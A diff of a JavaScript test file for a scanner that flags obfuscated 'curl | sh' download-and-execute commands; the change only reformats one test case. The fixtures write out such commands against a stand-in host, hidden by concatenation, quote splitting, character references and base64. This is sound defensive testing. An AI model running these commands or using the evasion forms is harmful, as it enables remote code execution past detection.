@@ -46,7 +46,12 @@ describe('look-alike and split evasions', () => {
     ['string concatenation', 'cmd = "cu" + "rl https://x.example/i.sh | sh"', 'supply-curl-pipe-shell', 'joined'],
     ['shell quote splits', "c''url https://x.example/i.sh | b''ash", 'supply-curl-pipe-shell', 'joined'],
     ['character references', 'Run &#99;&#x75;rl https://x.example/i.sh | &#115;h now', 'supply-curl-pipe-shell', 'joined'],
-    ['base64 payload', `payload: ${Buffer.from('curl https://x.example/i.sh | bash').toString('base64')}`, 'supply-curl-pipe-shell', 'base64'],
+    [
+      'base64 payload',
+      `payload: ${Buffer.from('curl https://x.example/i.sh | bash').toString('base64')}`,
+      'supply-curl-pipe-shell',
+      'base64',
+    ],
   ])('catches %s', (_name, line, rule, via) => {
     const found = scan(`intro\n${line}`).filter((f) => f.rule === rule);
     expect(found).toHaveLength(1);
